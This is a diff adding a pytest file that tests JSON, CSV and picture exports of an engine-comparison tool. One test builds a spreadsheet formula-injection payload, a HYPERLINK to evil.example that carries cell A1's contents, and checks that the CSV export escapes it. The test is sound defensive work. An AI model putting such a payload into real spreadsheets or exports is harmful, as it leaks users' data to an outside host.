@@ -1,0 +1,85 @@
+"""One comparison as JSON, CSV and a picture."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from dataclasses import replace
+
+import pytest
+from PIL import Image
+
+from engines.contract import Reading
+from metrics.normalising import DEFAULT_RULES
+from playground.comparison import Comparison, EngineRun
+from playground.share.exporting import as_csv, as_json
+from playground.share.panel_picture import panel_picture
+
+
+def rows(comparison: Comparison) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(as_csv(comparison, DEFAULT_RULES), newline="")))
+
+
+def test_json_holds_facts_scores_and_rules(comparison: Comparison) -> None:
+    document = json.loads(as_json(comparison, DEFAULT_RULES))
+    assert document["created_at"] == "2026-11-23T12:00:00+00:00"
+    assert document["reference"] == "the cat sat"
+    assert [run["status"] for run in document["runs"]] == ["reading", "reading", "failure"]
+    assert document["runs"][0]["cer"]["substitutions"] == 1
+    assert document["runs"][2]["text"] is None
+    assert document["rules"]["ignore_case"] is False
+
+
+def test_csv_holds_one_row_per_engine_the_reference_and_the_rules(comparison: Comparison) -> None:
+    gpt, tesseract, failed, reference, rules, conventions = rows(comparison)
+    assert (conventions["engine"], conventions["text"]) == ("(conventions)", comparison.task.conventions)
+    assert (gpt["engine"], gpt["substitutions"], gpt["cost_usd"], gpt["text"]) == (
+        "gpt-5",
+        "1",
+        "0.0042",
+        "the bat sat",
+    )
+    assert float(gpt["cer"]) == pytest.approx(1 / 11)
+    assert tesseract["cer"] == "0.0"
+    assert (failed["status"], failed["text"], failed["cer"]) == ("failure", "", "")
+    assert failed["failure"] == "No reading within 5 seconds."
+    assert reference["text"] == "the cat sat"
+    assert rules["text"] == DEFAULT_RULES.sentence()
+
+
+def test_without_a_reference_there_are_no_rates(comparison: Comparison) -> None:
+    bare = replace(comparison, reference=" \n")
+    assert rows(bare)[0]["cer"] == ""
+    assert json.loads(as_json(bare, DEFAULT_RULES))["runs"][0]["cer"] is None
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_no_cell_is_a_formula(comparison: Comparison, start: str) -> None:
+    attack = f'{start}HYPERLINK("https://evil.example/?"&A1)'
+    hostile = replace(
+        comparison, reference=attack, runs=(EngineRun("gpt-5", Reading(attack, model_reported=attack), 1.0),)
+    )
+    cells = [cell for row in rows(hostile) for cell in row.values() if "HYPERLINK" in cell]
+    assert len(cells) == 3
+    assert all(cell.startswith("'") for cell in cells)
+
+
+def test_the_picture_colours_what_is_wrong_and_only_that(comparison: Comparison) -> None:
+    image = Image.open(io.BytesIO(panel_picture(comparison, DEFAULT_RULES, {"gpt-5": "GPT-5"})))
+    wrong = (0xFD, 0xE9, 0xBD)
+
+    def has(colour: tuple[int, int, int], column: int) -> bool:
+        left = 36 + column * 404
+        colours = image.convert("RGB").crop((left, 0, left + 380, image.height)).getcolors(100_000)
+        return any(found == colour for _, found in colours or [])
+
+    assert [has(wrong, column) for column in range(3)] == [True, False, False]
+
+
+def test_a_reading_of_any_length_and_script_can_be_drawn(comparison: Comparison) -> None:
+    text = "שלום مرحبا 你好 " + "a" * 3000 + "\n" * 500
+    image = Image.open(io.BytesIO(panel_picture(
+        replace(comparison, reference="", runs=(EngineRun("x", Reading(text), 1.0),)), DEFAULT_RULES, {}
+    )))  # fmt: skip
+    assert image.height < 1600
